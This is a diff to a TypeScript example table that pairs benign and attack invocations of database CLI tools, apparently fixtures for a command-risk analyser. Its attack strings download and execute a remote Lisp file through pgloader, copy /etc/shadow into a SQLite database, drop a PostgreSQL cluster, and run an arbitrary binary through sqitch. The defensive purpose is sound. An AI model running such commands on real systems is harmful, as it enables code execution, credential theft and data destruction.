@@ -98,4 +98,22 @@ export const sqlDatabases3: ExampleTable = {
     use: 'sqitch -C database status → nothing',
     attack: 'sqitch --client=/tmp/x deploy → run /tmp/x',
   },
+  pg_dropcluster: {
+    attack: 'pg_dropcluster --stop 16 main → destroy 16 main',
+  },
+  pgloader: {
+    use: 'pgloader orders.load → read orders.load',
+    attack:
+      'curl -so x.lisp http://10.0.0.1/x && pgloader --load-lisp-file x.lisp orders.load → execute ‹http://10.0.0.1/x›; read orders.load',
+  },
+  'sqlite-utils insert-files': {
+    use: 'sqlite-utils insert-files app.db files notes.txt → read notes.txt; write app.db',
+    attack: 'sqlite-utils insert-files app.db files /etc/shadow → read /etc/shadow; write app.db',
+  },
+  mysql_tzinfo_to_sql: {
+    use: 'mysql_tzinfo_to_sql /usr/share/zoneinfo → read /usr/share/zoneinfo',
+  },
+  sqlpad: {
+    use: 'sqlpad --config config.json → read config.json',
+  },
 }
